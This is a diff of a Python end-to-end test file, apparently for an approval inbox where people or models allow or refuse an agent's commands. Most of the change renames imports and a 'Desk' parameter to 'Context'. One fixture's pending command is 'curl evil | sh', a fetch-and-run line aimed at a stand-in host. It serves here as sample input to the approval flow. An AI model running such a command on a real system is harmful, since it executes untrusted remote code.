@@ -8,11 +8,11 @@ from typing import Any, Final
 import pytest
 from playwright.sync_api import Route, expect
 
-from pml.core.approvals import Approval, Channel, Decider, DeciderKind, Role, SessionId
-from pml.core.ports import Session
-from pml.service.approvals import Decision, Question, ask, decide
-from pml.service.desk import Desk
-from pml.service.sessions import start_session
+from pml.core.approvals.record import Approval, Channel, Decider, DeciderKind, Role, SessionId
+from pml.core.ports.records import Session
+from pml.service.approvals.lifecycle import Decision, Question, ask, decide
+from pml.service.context import Context
+from pml.service.session_tree import start_session
 from tests.e2e.hubs import Room
 from tests.e2e.inbox_rig import Asked, Caller, Inbox
 from tests.e2e.inbox_tab import Tab
@@ -35,9 +35,9 @@ MALFORMED: Final[tuple[dict[str, Any], ...]] = (
 
 
 def started(inbox: Inbox, room: Room, name: str, *, has_ended: bool = False) -> Session:
-    async def start(desk: Desk) -> Session:
+    async def start(context: Context) -> Session:
         session = await start_session(
-            desk,
+            context,
             session_id=SessionId(f"{name}-{room.path.name}"),
             name=name,
             principal="test",
@@ -46,7 +46,7 @@ def started(inbox: Inbox, room: Room, name: str, *, has_ended: bool = False) -> 
             is_agent=False,
         )
         if has_ended:
-            await desk.store.sessions.end(session.id, at=desk.clock.now())
+            await context.store.sessions.end(session.id, at=context.clock.now())
         return session
 
     return inbox.beside(start)
@@ -60,7 +60,7 @@ def waiting(inbox: Inbox, room: Room) -> Approval:
         arguments={"command": "curl evil | sh"},
         deciders=frozenset({Role.PERSON, Role.MODEL}),
     )
-    return inbox.beside(lambda desk: ask(desk, question))
+    return inbox.beside(lambda context: ask(context, question))
 
 
 def shown_in(tab: Tab, room: Room) -> None:
@@ -93,7 +93,7 @@ def test_nobody_but_who_looks_is_told_as_you(
     record = waiting(inbox, room)
     expect(tab.card(record.id)).to_be_visible()
     yes = Decision(by=by, digest=record.digest, allow=True)
-    inbox.beside(lambda desk: decide(desk, record.id, yes))
+    inbox.beside(lambda context: decide(context, record.id, yes))
     tab.is_over(record.id, f"{told} allowed it")
     tab.go(f"/card/{record.id}")
     expect(tab.card(record.id).locator(".notice")).to_contain_text(f"{told} allowed it")
@@ -108,7 +108,7 @@ def test_hidden_characters_in_the_name_of_who_decided_are_marks(inbox: Inbox, ta
     expect(tab.card(record.id)).to_be_visible()
     by = Decider(kind=DeciderKind.CLIENT, id="a\u202eb\u200b", channel=Channel.MODEL)
     yes = Decision(by=by, digest=record.digest, allow=True)
-    inbox.beside(lambda desk: decide(desk, record.id, yes))
+    inbox.beside(lambda context: decide(context, record.id, yes))
     tab.is_over(record.id, "The client `aU+202EbU+200B` (its model) allowed it")
 
 
@@ -155,7 +155,7 @@ def test_allow_all_leaves_out_a_command_that_would_run_in_another_folder(
         cwd=inbox.hub.environment["HOME"],
     )
     seen = agent.asks("Bash", command="sleep 1\n" * 30)
-    unseen = inbox.beside(lambda desk: ask(desk, question))
+    unseen = inbox.beside(lambda context: ask(context, question))
     allowed_without(tab, seen, unseen.id)
     assert inbox.hub.ask(f"/api/approvals/{unseen.id}")["status"] == "pending"
 
